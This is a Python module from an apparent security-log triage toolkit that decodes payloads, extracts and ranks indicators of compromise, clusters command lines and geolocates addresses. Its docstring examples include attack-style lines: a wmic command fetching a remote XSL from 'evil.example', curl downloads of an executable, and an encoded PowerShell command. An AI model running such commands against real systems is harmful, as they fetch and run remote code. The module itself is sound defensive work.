"""The CPU stages of triage: decode, extract indicators, group patterns, geolocate.

Each stage is a pure function of frames (no files, no network) so that it can be tested
and reused on its own; :func:`asisdk.pipeline.run_triage` chains them.
"""

from __future__ import annotations

import functools
import ipaddress
import math
import re
from collections.abc import Mapping, Sequence
from concurrent.futures import Executor
from types import MappingProxyType
from typing import TYPE_CHECKING, Any, Final

import numpy as np
import pandas as pd

from asisdk._text_columns import is_arrow_text, is_text_category, plain_text
from asisdk.cluster import group_patterns
from asisdk.decode import unpack_frame
from asisdk.entities import IpType, ip_type_of, is_public_address
from asisdk.ioc import BUILTIN_TYPES, IocExtractor, extract_frame
from asisdk.pipeline import _defaults
from asisdk.pipeline._columns import empty_table, first_text, nonblank_mask

if TYPE_CHECKING:
    from asisdk.geo import GeoIpDatabase

__all__ = [
    "DECODED_COLUMNS",
    "DEFAULT_IOC_TYPES",
    "GEO_COLUMNS",
    "IOC_COLUMNS",
    "NOISE_IP_TYPES",
    "PATTERN_COLUMNS",
    "PROTECTED_SPANS",
    "SUSPICION_ORDER",
    "decode_events",
    "extract_iocs",
    "find_patterns",
    "geolocate_iocs",
    "identifier_hash_mask",
    "noise_address_mask",
    "protect_spans",
    "public_or_named",
    "rank_iocs",
    "summarise_iocs",
]

#: Indicator types triage extracts by default (file paths are left out: every command line
#: has several, and they drown the network and hash indicators).
DEFAULT_IOC_TYPES: Final[tuple[str, ...]] = tuple(
    t for t in BUILTIN_TYPES if t not in ("windows_path", "linux_path")
)

#: Columns of :func:`decode_events`' result.
DECODED_COLUMNS: Final[tuple[str, ...]] = (
    "src_index",
    "asi_file",
    "asi_row",
    "column",
    "layer",
    "parent",
    "depth",
    "encoding",
    "file_type",
    "file_name",
    "decoded_size",
    "md5",
    "sha1",
    "sha256",
    "encoded",
    "decoded_text",
    "error",
)

#: Columns of :func:`extract_iocs`' result (one row per indicator per place found).
IOC_COLUMNS: Final[tuple[str, ...]] = (
    "src_index",
    "column",
    "source",
    "layer",
    "ioc_type",
    "observable",
)

#: Columns of :func:`find_patterns`' result.
PATTERN_COLUMNS: Final[tuple[str, ...]] = (
    "pattern_id",
    "rarity_rank",
    "rare",
    "events",
    "template",
    "first_seen",
    "last_seen",
    "example_index",
    "example_file",
    "example_row",
    "example_text",
    "example_host",
    "example_user",
    "example_parent",
    "exemplars",
)

#: What a pattern's wildcard never swallows: each match becomes a named placeholder before
#: template mining, so a line with a URL, a UNC path, an IP address or an encoded payload
#: never shares a template with one that has a plain word there (``wmic process
#: /FORMAT:list`` and ``/FORMAT:https://.../x.xsl`` stay two patterns), and the values are
#: listed as the pattern's ``exemplars``.
PROTECTED_SPANS: Final[Mapping[str, str]] = MappingProxyType(
    {
        "url": r"\b[a-zA-Z][a-zA-Z0-9+.-]{1,15}://[^\s\"'<>]+",
        "unc": r"(?<![\w\\])\\\\[A-Za-z0-9._$-]+\\[^\s\"'<>|]*",
        "ip": r"(?<![\w.:])\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?![\w.])"
        r"|(?<![\w:])(?:[0-9a-fA-F]{1,4}:){3,7}[0-9a-fA-F]{1,4}(?![\w:])",
        "payload": r"(?<![A-Za-z0-9+/])(?=[A-Za-z0-9+/]*[0-9+/])(?=[A-Za-z0-9+/]*[a-z])"
        r"(?=[A-Za-z0-9+/]*[A-Z])[A-Za-z0-9+/]{40,}={0,2}",
    }
)
_PROTECTED: Final = re.compile(
    "|".join(f"(?P<{name}>{pattern})" for name, pattern in PROTECTED_SPANS.items())
)
_MAX_EXEMPLARS: Final = 5
_EXEMPLAR_CHARS: Final = 200


def protect_spans(line: str) -> tuple[str, tuple[str, ...]]:
    """Replace the :data:`PROTECTED_SPANS` of ``line`` with ``<url>``, ``<unc>``, ``<ip>``
    or ``<payload>``; return the new line and the values replaced.

    Examples:
        >>> protect_spans("wmic process get /FORMAT:https://evil.example/x.xsl")
        ('wmic process get /FORMAT:<url>', ('https://evil.example/x.xsl',))
    """
    found: list[str] = []

    def swap(match: re.Match[str]) -> str:
        found.append(match.group(0))
        return f"<{match.lastgroup}>"

    return _PROTECTED.sub(swap, line), tuple(found)


#: Location columns :func:`geolocate_iocs` adds.
GEO_COLUMNS: Final[tuple[str, ...]] = (
    "geo_status",
    "country_code",
    "country_name",
    "city",
    "latitude",
    "longitude",
    "asn",
    "organization",
)

_TEXT_PREVIEW: Final = 400

#: Address types that are never indicators of an attack (triage sets them aside by default):
#: ``0.0.0.0``/``::``, loopback, link-local (``169.254/16``, ``fe80::/10``) and multicast
#: (``224.0.0.251`` mDNS, ``239.255.255.250`` SSDP, ``ff02::...``). The classification is
#: :func:`asisdk.entities.ip_type_of`; the limited broadcast ``255.255.255.255`` is set aside
#: too.
NOISE_IP_TYPES: Final[frozenset[IpType]] = frozenset(
    {IpType.UNSPECIFIED, IpType.LOOPBACK, IpType.LINK_LOCAL, IpType.MULTICAST}
)

_BROADCAST: Final = ipaddress.IPv4Address("255.255.255.255")

#: How :func:`rank_iocs` orders indicators, most suspicious first (``dns`` is a domain).
SUSPICION_ORDER: Final[tuple[str, ...]] = (
    "url",
    "dns",
    "public ip",
    "hash",
    "other ip",
    "other",
    "microsoft-signed hash",
)

_HASH_TYPES: Final = frozenset({"md5", "sha1", "sha256"})


def _file_and_row(frame: pd.DataFrame, index: Any) -> list[Any]:
    """The ``asi_file`` and ``asi_row`` of the events at ``index`` (``None`` without them)."""
    return [
        frame[name].reindex(index).to_numpy() if name in frame else None
        for name in ("asi_file", "asi_row")
    ]


def _text_values(frame: pd.DataFrame, column: str) -> pd.Series[Any]:
    values = plain_text(frame[column])
    text = values.where(values.notna(), "").astype(str)
    return text.where(nonblank_mask(text), "")


def decode_events(
    frame: pd.DataFrame,
    columns: Sequence[str],
    *,
    executor: Executor | None = None,
) -> pd.DataFrame:
    """Decode every encoded payload in ``frame[columns]``; one row per layer found.

    Each distinct text is unpacked once (security logs repeat the same command line many
    times) and its layers are copied to every row that holds it, so the link to the source
    row is exact.

    Args:
        frame: the events (index: their position; ``asi_file`` / ``asi_row`` columns when
            loaded with :func:`load_events`).
        columns: the text columns to decode.
        executor: where the unpacking runs (see :mod:`asisdk.executors`).

    Returns:
        A frame with the columns of :data:`DECODED_COLUMNS`: the source row (``src_index``,
        ``asi_file``, ``asi_row``), the ``column``, the layer (``layer`` like ``"1.1"``,
        ``parent``, ``depth``, ``encoding``, ``file_type``, ``file_name``,
        ``decoded_size``, hashes), the ``encoded`` text (cut at 400 characters), the
        ``decoded_text`` and an ``error`` when a limit stopped decoding.

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"CommandLine": ["powershell -e ZABpAHIAIABDADoAXAA="]})
        >>> decode_events(events, ["CommandLine"])[["src_index", "encoding", "decoded_text"]]
           src_index encoding decoded_text
        0          0   base64       dir C:\\
    """
    parts: list[pd.DataFrame] = []
    for column in columns:
        values = frame[column]
        # Text columns are factorised as they are (no copy of a column of long messages;
        # missing cells get code -1); only the distinct values are checked for blanks.
        compact = is_arrow_text(values) or is_text_category(values)
        text = values if compact else _text_values(frame, column)
        codes, uniques = pd.factorize(text)
        distinct = pd.DataFrame({"text": np.asarray(uniques, dtype=object)})
        candidates = distinct[nonblank_mask(distinct["text"])]
        layers = unpack_frame(candidates, "text", executor=executor)
        if layers.empty:
            continue
        layers = layers.rename(columns={"src_index": "code"})
        layers["layer_order"] = range(len(layers))
        rows = pd.DataFrame({"code": codes, "src_index": frame.index})
        joined = rows.merge(layers, on="code", how="inner")
        joined["column"] = column
        parts.append(joined)
    if not parts:
        return empty_table(DECODED_COLUMNS)
    out = pd.concat(parts, ignore_index=True)
    out = out.sort_values(["src_index", "column", "layer_order"], kind="stable")
    out = out.reset_index(drop=True)
    out["asi_file"], out["asi_row"] = _file_and_row(frame, out["src_index"])
    out["layer"] = out["index"]
    out["decoded_size"] = (
        out["decoded_bytes"]
        .map(lambda data: len(data) if isinstance(data, bytes) else pd.NA)
        .astype("Int64")
    )
    out["encoded"] = out["source"].map(_preview)
    return out[list(DECODED_COLUMNS)]


def _preview(value: object) -> object:
    if isinstance(value, str) and len(value) > _TEXT_PREVIEW:
        return value[:_TEXT_PREVIEW] + f"... ({len(value):,} characters)"
    return value


def extract_iocs(
    frame: pd.DataFrame,
    columns: Sequence[str],
    decoded: pd.DataFrame,
    *,
    types: Sequence[str] = DEFAULT_IOC_TYPES,
    executor: Executor | None = None,
    extractor: IocExtractor | None = None,
) -> pd.DataFrame:
    """Extract indicators from the original text and from every decoded layer.

    Args:
        frame: the events.
        columns: the columns scanned in the original events (text and IP columns).
        decoded: the layers from :func:`decode_events`; their ``decoded_text`` is scanned and
            each hit keeps the layer's source row, column and layer number.
        types: the indicator types (see :mod:`asisdk.ioc`).
        executor: where the scanning runs.
        extractor: a configured :class:`~asisdk.ioc.IocExtractor` (custom types).

    Returns:
        A frame with the columns of :data:`IOC_COLUMNS`; ``source`` is ``"original"`` or
        ``"decoded"`` and ``layer`` the decoded layer (``None`` for original text).

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"cmd": ["curl http://203.0.113.9/a"]})
        >>> found = extract_iocs(events, ["cmd"], decode_events(events, ["cmd"]))
        >>> sorted(found["observable"])
        ['203.0.113.9', 'http://203.0.113.9/a']
    """

    def scan(source: pd.DataFrame, scanned: str | list[str]) -> pd.DataFrame:
        found = extract_frame(
            source, scanned, types=list(types), executor=executor, extractor=extractor
        )
        return found[found["error"].isna()]

    def rows(found: pd.DataFrame, **where: Any) -> pd.DataFrame:
        kinds = {name: found[name].to_numpy() for name in ("ioc_type", "observable")}
        return pd.DataFrame({**where, **kinds})

    parts: list[pd.DataFrame] = []
    if columns:
        original = scan(frame, list(columns))
        parts.append(
            rows(
                original,
                src_index=original["src_index"].to_numpy(),
                column=original["column"].astype(str).to_numpy(),
                source="original",
                layer=None,
            )
        )
    texts = decoded[decoded["decoded_text"].notna()] if len(decoded) else decoded
    if len(texts):
        layers = pd.DataFrame({"decoded_text": texts["decoded_text"].to_numpy()})
        hits = scan(layers, "decoded_text")
        at = hits["src_index"].astype("int64").to_numpy()
        parts.append(
            rows(
                hits,
                src_index=texts["src_index"].to_numpy()[at],
                column=texts["column"].to_numpy()[at],
                source="decoded",
                layer=texts["layer"].to_numpy()[at],
            )
        )
    if not parts:
        return empty_table(IOC_COLUMNS)
    out = pd.concat(parts, ignore_index=True)
    out = out.drop_duplicates(["src_index", "column", "source", "layer", "ioc_type", "observable"])
    return out.reset_index(drop=True)[list(IOC_COLUMNS)]


def summarise_iocs(
    iocs: pd.DataFrame, frame: pd.DataFrame, *, time_column: str | None = None
) -> pd.DataFrame:
    """One row per distinct indicator: where it was found, how often, first and last seen.

    Args:
        iocs: the rows of :func:`extract_iocs`.
        frame: the events (for times and file / row links).
        time_column: the event time column, if any.

    Returns:
        Columns ``ioc_type``, ``observable``, ``events`` (distinct events holding it),
        ``sources`` (``original``, ``decoded`` or ``original+decoded``), ``columns``,
        ``first_seen``, ``last_seen``, ``first_file``, ``first_row``; the rarest first
        within each type order (hashes, URLs, IPs, domains, then the rest).

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"cmd": ["ping 203.0.113.9", "ping 203.0.113.9"]})
        >>> table = summarise_iocs(extract_iocs(events, ["cmd"], events.iloc[0:0]), events)
        >>> table[["observable", "events", "sources"]].values.tolist()
        [['203.0.113.9', 2, 'original']]
    """
    columns = [
        "ioc_type",
        "observable",
        "events",
        "sources",
        "columns",
        "first_seen",
        "last_seen",
        "first_file",
        "first_row",
    ]
    if iocs.empty:
        return empty_table(columns)
    work = iocs[["ioc_type", "observable", "src_index", "source", "column"]].copy()
    if time_column is not None and time_column in frame.columns:
        work["time"] = frame[time_column].reindex(work["src_index"]).to_numpy()
    else:
        work["time"] = pd.NaT
    keys = ["ioc_type", "observable"]
    grouped = work.groupby(keys, sort=False)
    table = grouped.agg(
        events=("src_index", "nunique"),
        first_index=("src_index", "min"),
        first_seen=("time", "min"),
        last_seen=("time", "max"),
    )
    table["sources"] = grouped["source"].agg(lambda s: "+".join(sorted(set(s), reverse=True)))
    table["columns"] = grouped["column"].agg(lambda s: ", ".join(sorted(set(map(str, s)))))
    table = table.reset_index()
    table["first_file"], table["first_row"] = _file_and_row(frame, table["first_index"])
    order = {t: i for i, t in enumerate(("sha256", "sha1", "md5", "url", "ipv4", "ipv6", "dns"))}
    table["type_order"] = table["ioc_type"].map(lambda t: order.get(t, len(order)))
    table = table.sort_values(["type_order", "events", "observable"], kind="stable").reset_index(
        drop=True
    )
    return table[columns]


def _is_noise_address(ioc_type: object, observable: object) -> bool:
    if ioc_type not in ("ipv4", "ipv6") or not isinstance(observable, str):
        return False
    try:
        address = ipaddress.ip_address(observable.split("%", 1)[0])
    except ValueError:
        return False
    return address == _BROADCAST or ip_type_of(address) in NOISE_IP_TYPES


def noise_address_mask(table: pd.DataFrame) -> pd.Series[bool]:
    """Which rows of an indicator table are noise addresses (see :data:`NOISE_IP_TYPES`).

    Args:
        table: indicators with ``ioc_type`` and ``observable`` columns.

    Returns:
        A boolean series aligned to ``table``: ``True`` for unspecified, loopback,
        link-local, multicast and broadcast IPv4 / IPv6 addresses.

    Examples:
        >>> import pandas as pd
        >>> table = pd.DataFrame({"ioc_type": ["ipv4", "ipv4", "ipv6", "dns"],
        ...     "observable": ["239.255.255.250", "203.0.113.9", "fe80::1", "0.0.0.0"]})
        >>> noise_address_mask(table).tolist()
        [True, False, True, False]
    """
    flags = [
        _is_noise_address(kind, value)
        for kind, value in zip(table["ioc_type"], table["observable"], strict=True)
    ]
    return pd.Series(flags, index=table.index, dtype=bool)


def public_or_named(ioc_type: object, observable: object) -> bool:
    """Whether an indicator points somewhere outside: a URL, a domain or a public IP address.

    Examples:
        >>> public_or_named("ipv4", "10.0.0.1"), public_or_named("ipv4", "203.0.113.9")
        (False, False)
        >>> public_or_named("ipv4", "8.8.8.8"), public_or_named("url", "http://10.0.0.1/a")
        (True, True)
    """
    if ioc_type in ("url", "dns"):
        return True
    if ioc_type not in ("ipv4", "ipv6") or not isinstance(observable, str):
        return False
    return is_public_address(observable)


#: Words that name a hex value as an identifier rather than a hash (container ids, GUID-like
#: ids, session, request or correlation ids), in a column name or just before the value.
_IDENTIFIER_NAME: Final = re.compile(
    r"(?i)(?:(?:container|guid|uuid|session|request|correlation|activity|trace|transaction"
    r"|instance|tenant|device|machine|logon|client|span|pod)[\s_-]*(?:id)?[\s\"':=]*"
    r"|\b(?:id|cid|key)[\s\"':=]+)$"
)
_ID_CONTEXT_CHARS: Final = 40
#: Hash hits whose events' text :func:`identifier_hash_mask` reads at a time.
_ID_SLICE: Final = 10_000


def identifier_hash_mask(hits: pd.DataFrame, frame: pd.DataFrame) -> pd.Series[bool]:
    """Hash-shaped hits that the event names as something else (an id, not a file hash).

    A 32/40/64-digit hex value is reported as a hash by the extractor (a syntactic rule). A
    value the event itself calls a container id, a GUID, a session / request / correlation
    id ... is not a file hash: its column is named so (``ContainerId``), or the text just
    before it is (``container_id=...``, ``--cidfile``, ``ProcessGuid: ...``).

    Args:
        hits: the rows of :func:`extract_iocs`.
        frame: the events (the text around each original hit).

    Returns:
        A boolean series aligned to ``hits``.

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"msg": ["container_id=" + "ab" * 32, "sha256 " + "cd" * 32]})
        >>> hits = extract_iocs(events, ["msg"], events.iloc[0:0])
        >>> hits.loc[identifier_hash_mask(hits, events), "observable"].str[:4].tolist()
        ['abab']
    """
    flags = np.zeros(len(hits), dtype=bool)
    if hits.empty:
        return pd.Series(flags, index=hits.index, dtype=bool)
    candidates = np.flatnonzero(hits["ioc_type"].isin(list(_HASH_TYPES)).to_numpy(dtype=bool))
    values = hits["observable"].tolist()
    columns = hits["column"].tolist()
    sources = hits["source"].tolist()
    indexes = hits["src_index"].tolist()
    unique = frame.index.is_unique
    located = pd.Index(hits["src_index"].iloc[candidates])
    rows = frame.index.get_indexer(located) if unique else None
    # The events' text is read once per column for all its hits, and lower-cased once per
    # event (an image load names four hashes in one rendered message).
    wanted: dict[object, list[tuple[int, int]]] = {}
    for at_candidate, pos in enumerate(candidates.tolist()):
        column = columns[pos]
        if _names_identifier(str(column)):
            flags[pos] = True
            continue
        if sources[pos] != "original" or column not in frame.columns:
            continue
        if rows is not None:
            if rows[at_candidate] >= 0:
                wanted.setdefault(column, []).append((pos, int(rows[at_candidate])))
        elif indexes[pos] in frame.index:
            flags[pos] = _named_before(frame.at[indexes[pos], column], values[pos], {}, 0)
    for column, found in wanted.items():
        # A slice of hits at a time: the texts of 260,000 hashes' events as Python strings
        # would be a copy of the column.
        for start in range(0, len(found), _ID_SLICE):
            part = found[start : start + _ID_SLICE]
            texts = frame[column].iloc[[row for _, row in part]].tolist()
            lowered: dict[int, str] = {}
            for (pos, row), text in zip(part, texts, strict=True):
                flags[pos] = _named_before(text, values[pos], lowered, row)
    return pd.Series(flags, index=hits.index, dtype=bool)


def _named_before(text: object, value: object, lowered: dict[int, str], row: int) -> bool:
    """Whether the text just before ``value`` in ``text`` names it as an identifier."""
    if not isinstance(text, str):
        return False
    low = lowered.get(row)
    if low is None:
        low = lowered[row] = text.lower()
    at = low.find(str(value).lower())
    return at > 0 and _names_identifier(text[max(0, at - _ID_CONTEXT_CHARS) : at])


@functools.lru_cache(maxsize=4096)
def _names_identifier(context: str) -> bool:
    """Whether ``context`` names an identifier (the same few repeat in every event)."""
    return bool(_IDENTIFIER_NAME.search(context))


def _microsoft_signed_events(frame: pd.DataFrame) -> pd.Series[bool]:
    """Events whose image Sysmon marks as signed by Microsoft (``Signed`` and ``Signature``)."""
    if "Signed" not in frame.columns or "Signature" not in frame.columns:
        return pd.Series(False, index=frame.index, dtype=bool)
    signed = frame["Signed"].map(lambda v: v is True or str(v).strip().lower() == "true")
    signature = plain_text(frame["Signature"]).fillna("").astype(str)
    microsoft = signature.str.contains("microsoft", case=False, regex=False)
    both = signed.to_numpy(dtype=bool) & microsoft.to_numpy(dtype=bool)
    return pd.Series(both, index=frame.index, dtype=bool)


def rank_iocs(table: pd.DataFrame, hits: pd.DataFrame, frame: pd.DataFrame) -> pd.DataFrame:
    """Order an indicator table by suspicion (:data:`SUSPICION_ORDER`), rarest first within.

    URLs, then domains, then public IP addresses, then hashes, then other IP addresses
    (private, reserved), then the other types; hashes found only in events whose image
    Sysmon marks as signed by Microsoft (``Signed`` true, ``Signature`` naming Microsoft,
    e.g. Sysmon 7 image loads of Windows DLLs) come last.

    Args:
        table: the rows of :func:`summarise_iocs`.
        hits: the rows of :func:`extract_iocs` (which events hold each indicator).
        frame: the events (``Signed`` / ``Signature`` columns, when there are any).

    Returns:
        ``table`` reordered, with a fresh index.

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"cmd": ["md5 d41d8cd98f00b204e9800998ecf8427e",
        ...     "curl http://10.0.5.13/a.exe"]})
        >>> hits = extract_iocs(events, ["cmd"], events.iloc[0:0])
        >>> rank_iocs(summarise_iocs(hits, events), hits, events)["ioc_type"].tolist()
        ['url', 'md5', 'ipv4']
    """
    if table.empty:
        return table
    signed_events = _microsoft_signed_events(frame)
    demoted: set[str] = set()
    hashes = hits[hits["ioc_type"].isin(list(_HASH_TYPES))]
    if len(hashes) and bool(signed_events.any()):
        flags = signed_events.reindex(hashes["src_index"]).fillna(False).to_numpy(dtype=bool)
        per_hash = pd.Series(flags).groupby(hashes["observable"].to_numpy()).all()
        demoted = {str(h) for h in per_hash[per_hash].index}
    tier = {name: i for i, name in enumerate(SUSPICION_ORDER)}

    def suspicion(kind: object, value: object) -> int:
        if kind in ("url", "dns"):
            return tier[str(kind)]
        if kind in _HASH_TYPES:
            return tier["microsoft-signed hash" if value in demoted else "hash"]
        if kind in ("ipv4", "ipv6") and isinstance(value, str):
            return tier["public ip" if is_public_address(value) else "other ip"]
        return tier["other"]

    work = table.assign(
        _suspicion=[
            suspicion(kind, value)
            for kind, value in zip(table["ioc_type"], table["observable"], strict=True)
        ]
    )
    work = work.sort_values(["_suspicion", "events", "observable"], kind="stable")
    return work.drop(columns="_suspicion").reset_index(drop=True)


def find_patterns(
    frame: pd.DataFrame,
    columns: Sequence[str],
    *,
    time_column: str | None = None,
    executor: Executor | None = None,
    rare_min_events: int = _defaults.RARE_MIN_EVENTS,
    rare_share: float = _defaults.RARE_SHARE,
    host_column: str | None = None,
) -> tuple[pd.DataFrame, pd.Series[Any]]:
    """Group the events into patterns (templates of their text) and rank the rare ones.

    The text of an event is its first non-empty column of ``columns``; events without text
    belong to no pattern (``-1``). A pattern is rare when it covers at most
    ``max(rare_min_events, rare_share * events with text)`` events; ``rarity_rank`` 1 is
    the rarest (fewest events, then earliest).

    Args:
        frame: the events.
        columns: the text columns, in order of preference.
        time_column: the event time column, if any (first / last seen).
        executor: where the masking of distinct lines runs.
        rare_min_events: see above.
        rare_share: see above.
        host_column: the host column (the example's host in ``example_host``).

    URLs, UNC paths, IP addresses and encoded payloads are never swallowed by a wildcard
    (see :data:`PROTECTED_SPANS`); their values are listed in ``exemplars``.

    Returns:
        ``(patterns, labels)``: one row per pattern with the columns of
        :data:`PATTERN_COLUMNS` sorted by ``rarity_rank``, and the ``pattern_id`` of every
        event aligned to ``frame.index``.

    Examples:
        >>> import pandas as pd
        >>> events = pd.DataFrame({"cmd": [f"ping -n 1 10.0.0.{i}" for i in range(3)]
        ...                               + ["whoami /all"]})
        >>> patterns, labels = find_patterns(events, ["cmd"], rare_min_events=1)
        >>> patterns[["template", "events", "rare"]].values.tolist()
        [['whoami /all', 1, True], ['ping -n <*> <ip>', 3, False]]
    """
    text = first_text(frame, list(columns))
    has_text = (text != "").to_numpy(dtype=bool)
    labels = pd.Series(-1, index=frame.index, dtype="int64", name="pattern_id")
    with_text = frame.index[has_text]
    if not len(with_text):
        return empty_table(PATTERN_COLUMNS), labels
    # The distinct lines in order of first appearance among the events with text, found
    # without a copy of those events' text.
    every_code, every_distinct = pd.factorize(text)
    codes, first_codes = pd.factorize(every_code[has_text])
    distinct = every_distinct[first_codes]
    protected = [protect_spans(str(line)) for line in distinct]
    masked = np.asarray([p[0] for p in protected], dtype=object)
    # Object dtype: every event points at its distinct masked line (an Arrow column would
    # copy the text of each of 300,000 events).
    grouped_distinct = group_patterns(
        pd.Series(masked[codes], index=with_text, dtype=object), executor=executor
    )
    groups_labels = grouped_distinct.labels.to_numpy()
    distinct_labels = np.zeros(len(distinct), dtype=np.int64)
    distinct_labels[codes] = groups_labels
    labels.loc[with_text] = groups_labels
    work = pd.DataFrame({"pattern_id": groups_labels, "src_index": with_text})
    if time_column is not None and time_column in frame.columns:
        work["time"] = frame.loc[with_text, time_column].to_numpy()
    else:
        work["time"] = pd.NaT
    grouped = work.groupby("pattern_id", sort=True)
    table = grouped.agg(
        events=("src_index", "size"),
        example_index=("src_index", "min"),
        first_seen=("time", "min"),
        last_seen=("time", "max"),
    ).reset_index()
    table["template"] = pd.Series(
        [grouped_distinct.templates[i] for i in table["pattern_id"]],
        index=table.index,
        dtype=object,
    )
    exemplars: dict[int, list[str]] = {}
    for label, (_, spans) in zip(distinct_labels.tolist(), protected, strict=True):
        kept = exemplars.setdefault(int(label), [])
        for value in spans:
            if len(kept) < _MAX_EXEMPLARS and value[:_EXEMPLAR_CHARS] not in kept:
                kept.append(value[:_EXEMPLAR_CHARS])
    threshold = max(rare_min_events, math.floor(rare_share * len(with_text)))
    table["rare"] = table["events"] <= threshold
    table = table.sort_values(["events", "first_seen", "pattern_id"], kind="stable")
    table["rarity_rank"] = range(1, len(table) + 1)
    table["example_file"], table["example_row"] = _file_and_row(frame, table["example_index"])
    table["example_text"] = pd.Series(
        [_preview(text.at[i]) for i in table["example_index"]], index=table.index, dtype=object
    )
    from asisdk.pipeline._findings import event_fields

    examples = event_fields(frame.loc[table["example_index"].to_numpy()], host_column=host_column)
    table["example_host"] = examples["host"].to_numpy()
    table["example_user"] = examples["user"].to_numpy()
    table["example_parent"] = examples["parent_image"].to_numpy()
    table["exemplars"] = ["\n".join(exemplars.get(int(i), [])) for i in table["pattern_id"]]
    return table.reset_index(drop=True)[list(PATTERN_COLUMNS)], labels


def geolocate_iocs(table: pd.DataFrame, database: GeoIpDatabase) -> pd.DataFrame:
    """Locate the IP addresses of an indicator table with a local GeoIP database.

    Args:
        table: indicators (``ioc_type``, ``observable``), e.g. from :func:`summarise_iocs`.
        database: an open :class:`~asisdk.geo.GeoIpDatabase`.

    Returns:
        One row per distinct IPv4 / IPv6 indicator: ``observable`` and the columns of
        :data:`GEO_COLUMNS` (``geo_status`` ``private`` for addresses that are not public:
        they are never looked up).

    Examples:
        >>> from asisdk.geo import GeoIpDatabase
        >>> import pandas as pd
        >>> table = pd.DataFrame({"ioc_type": ["ipv4"], "observable": ["10.0.0.1"]})
        >>> with GeoIpDatabase() as geo:  # doctest: +SKIP
        ...     geolocate_iocs(table, geo)["geo_status"].tolist()
        ['private']
    """
    ips = table.loc[table["ioc_type"].isin(["ipv4", "ipv6"]), ["observable"]].drop_duplicates()
    if ips.empty:
        return empty_table(("observable", *GEO_COLUMNS))
    located = database.lookup_frame(ips.reset_index(drop=True), "observable")
    return located[["observable", *GEO_COLUMNS]]
